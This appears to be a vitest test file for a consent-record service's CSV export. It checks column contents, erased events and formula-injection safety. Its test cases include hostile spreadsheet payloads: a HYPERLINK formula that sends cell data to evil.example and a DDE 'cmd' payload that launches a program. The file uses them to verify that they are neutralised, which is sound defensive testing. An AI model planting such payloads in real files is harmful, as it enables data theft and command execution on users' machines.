import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { toCsv } from '../../src/export/csv.js';
import { chainOf, each, textOf } from './sample.js';

const csvOf = (...events: (Record<string, unknown> | null)[]) => textOf(toCsv(each([[chainOf(events)]])));
const read = (text: string): Record<string, string>[] => parse(text, { bom: true, columns: true });
/** As Excel reads it where cells are separated with semicolons. */
const readWithSemicolons = (text: string): string[] =>
  parse(text, { bom: true, delimiter: ';', relax_quotes: true, relax_column_count: true }).flat();

/** What spreadsheets take for the start of a formula, also as Asian keyboards write it. */
const FORMULA = /^["\s]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;

describe('CSV', () => {
  test('a line has what was said, and the hashes', async () => {
    const [line] = read(
      await csvOf({
        at: '2026-11-28T09:59:59.000Z',
        kind: 'given',
        choices: { analytics: { granted: true }, marketing: { granted: false }, functional: { granted: true } },
        about: ['analytics', 'marketing'],
        gpc: false,
        locale: 'th',
      }),
    );
    expect(line).toMatchObject({
      record: 'r1',
      n: '1',
      receivedAt: '2026-11-28T10:00:00.000Z',
      kind: 'given',
      yes: 'analytics functional',
      no: 'marketing',
      about: 'analytics marketing',
      gpc: 'false',
      locale: 'th',
      eventHash: 'ab'.repeat(32),
    });
  });

  test('an erased event leaves its line, with nothing but hashes and times', async () => {
    const [line] = read(await csvOf(null));
    expect(line).toMatchObject({ n: '1', yes: '', policy: '' });
  });

  test('an event cannot fill the columns of the service', async () => {
    const [line] = read(await csvOf({ record: '99', receivedAt: 'yesterday', vouched: true }));
    expect(line).toMatchObject({ record: 'r1', receivedAt: '2026-11-28T10:00:00.000Z', vouched: 'false' });
  });

  test.each([
    '=HYPERLINK("https://evil.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    '@SUM(1)',
    '-2+3',
    '\t=1+1',
    '\r=1+1',
    '\uFF1D1+1',
    '1;=1+1',
    '1\n=1+1',
    '1;"=1+1',
  ])('%j is harmless', async (policy) => {
    const text = await csvOf({ policy, locale: policy, choices: { [policy]: { granted: true } } });
    for (const cell of [...read(text).flatMap(Object.values), ...readWithSemicolons(text)])
      expect(cell).not.toMatch(FORMULA);
  });

  test('no text of an event begins a cell as a formula, wherever a spreadsheet splits', async () => {
    const nasty = fc.string({
      unit: fc.constantFrom('=', '+', '-', '@', ';', ',', '"', "'", '\t', '\n', '\r', ' ', 'a', '1'),
    });
    await fc.assert(
      fc.asyncProperty(nasty, nasty, async (policy, locale) => {
        const text = await csvOf({ policy, locale });
        const [line] = read(text);
        expect(Object.keys(line ?? {})).toHaveLength(25);
        for (const cell of Object.values(line ?? {})) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { numRuns: 50 },
    );
  });
});
